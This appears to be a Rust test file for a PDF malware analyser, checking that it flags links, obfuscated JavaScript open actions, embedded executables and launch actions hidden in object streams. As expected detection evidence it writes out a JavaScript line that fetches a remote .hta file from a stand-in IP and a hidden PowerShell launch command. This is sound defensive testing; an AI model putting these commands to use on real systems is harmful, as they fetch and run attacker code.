//! Behaviour on malicious-looking PDFs built at test time.

mod common;

use common::*;
use mozu_model::Severity;
use mozu_pdf::{Analysis, analyse_pdf};

fn finding<'a>(analysis: &'a Analysis, id: &str) -> Option<&'a mozu_model::Finding> {
    analysis.findings.iter().find(|finding| finding.id == id)
}

#[test]
fn seed000_instruction_pdf_properties_and_link() {
    let analysis = analyse_pdf(&seed000_instructions());
    let info = &analysis.info;
    assert_eq!(info.creator.as_deref(), Some("doPDF Ver 8.7 Build 943"));
    assert_eq!(info.producer.as_deref(), Some("doPDF Ver 8.7 Build 943"));
    assert_eq!(info.creation_date.as_deref(), Some("2016-10-30T18:42:15+09:00"));
    assert_eq!(info.mod_date.as_deref(), Some("2016-10-30T18:42:15+09:00"));
    assert_eq!(info.title.as_deref(), Some("ウイルス除去手順"));
    assert_eq!(info.pages, Some(1), "warnings: {:?}", analysis.warnings);
    assert_eq!(info.uris, vec![MEGA_URI.to_string()]);
    assert_eq!(info.keywords.get("URI"), Some(&2));
    assert!(analysis.texts.contains(&MEGA_URI.to_string()));
    let uri = finding(&analysis, "pdf.uri").expect("pdf.uri");
    assert_eq!(uri.severity, Severity::Low);
    assert_eq!(uri.evidence[0].value, MEGA_URI);
    assert!(finding(&analysis, "pdf.javascript").is_none());
    assert!(analysis.warnings.is_empty(), "{:?}", analysis.warnings);
}

#[test]
fn hex_escaped_javascript_open_action() {
    let analysis = analyse_pdf(&javascript_open_action());
    assert_eq!(analysis.info.keywords.get("JavaScript"), Some(&1));
    assert_eq!(analysis.info.keywords.get("JS"), Some(&1));
    assert_eq!(analysis.info.keywords.get("OpenAction"), Some(&1));
    let js = finding(&analysis, "pdf.javascript").expect("pdf.javascript");
    assert_eq!(js.severity, Severity::High);
    let open = finding(&analysis, "pdf.open_action").expect("pdf.open_action");
    assert_eq!(open.severity, Severity::High);
    assert!(
        open.evidence.iter().any(|e| e.value == "/JavaScript action"),
        "{:?}",
        open.evidence
    );
    let obfuscation = finding(&analysis, "pdf.name_obfuscation").expect("pdf.name_obfuscation");
    assert_eq!(obfuscation.evidence[0].value, "/J#61vaScript");
    let source = "app.launchURL(\"http://198.51.100.9/a.hta\", true);";
    assert!(analysis.texts.iter().any(|text| text == source), "{:?}", analysis.texts);
}

#[test]
fn embedded_executable_is_a_child() {
    let analysis = analyse_pdf(&embedded_exe());
    assert_eq!(analysis.children.len(), 1, "{:?}", analysis.warnings);
    assert_eq!(analysis.children[0].name, "invoice.exe");
    assert!(analysis.children[0].data.starts_with(b"MZ"));
    assert_eq!(analysis.info.embedded_files, vec!["invoice.exe".to_string()]);
    let embedded = finding(&analysis, "pdf.embedded_file").expect("pdf.embedded_file");
    assert_eq!(embedded.severity, Severity::High);
}

#[test]
fn launch_hidden_in_an_object_stream() {
    let bytes = objstm_launch();
    assert!(
        memchr::memmem::find(&bytes, b"/Launch").is_none(),
        "fixture must hide /Launch"
    );
    let analysis = analyse_pdf(&bytes);
    assert_eq!(analysis.info.keywords.get("Launch"), Some(&1));
    assert_eq!(analysis.info.keywords.get("ObjStm"), Some(&1));
    let launch = finding(&analysis, "pdf.launch").expect("pdf.launch");
    assert_eq!(launch.severity, Severity::High);
    // lopdf reads the object stream too: the Windows launch parameters.
    let command = "cmd.exe /c powershell -w hidden -nop";
    assert!(launch.evidence.iter().any(|e| e.value == command), "{launch:?}");
    assert!(analysis.texts.iter().any(|text| text == command));
    assert_eq!(
        finding(&analysis, "pdf.open_action").map(|f| f.severity),
        Some(Severity::Medium)
    );
}

#[test]
fn raw_scan_alone_on_a_file_without_xref() {
    // No cross-reference table, no trailer: lopdf may fail, the raw scan must not.
    let bytes = b"%PDF-1.4\n1 0 obj << /Producer (Evil) /CreationDate (D:20200102030405Z) >> endobj\n\
        2 0 obj << /S /URI /URI <68747470733A2F2F6578616D706C652E636F6D2F> >> endobj\n";
    let analysis = analyse_pdf(bytes);
    assert_eq!(analysis.info.producer.as_deref(), Some("Evil"));
    assert_eq!(analysis.info.creation_date.as_deref(), Some("2020-01-02T03:04:05Z"));
    assert_eq!(analysis.info.uris, vec!["https://example.com/".to_string()]);
}

#[test]
fn plain_destination_open_action_is_low() {
    let mut pdf = PdfBuilder::default();
    pdf.add(b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] /AcroForm << /Fields [] >> >>");
    pdf.add(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
    pdf.add(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>");
    let analysis = analyse_pdf(&pdf.finish(1, None));
    assert_eq!(
        finding(&analysis, "pdf.open_action").map(|f| f.severity),
        Some(Severity::Low)
    );
    assert_eq!(
        finding(&analysis, "pdf.acroform").map(|f| f.severity),
        Some(Severity::Low)
    );
    assert!(finding(&analysis, "pdf.xfa").is_none());
}
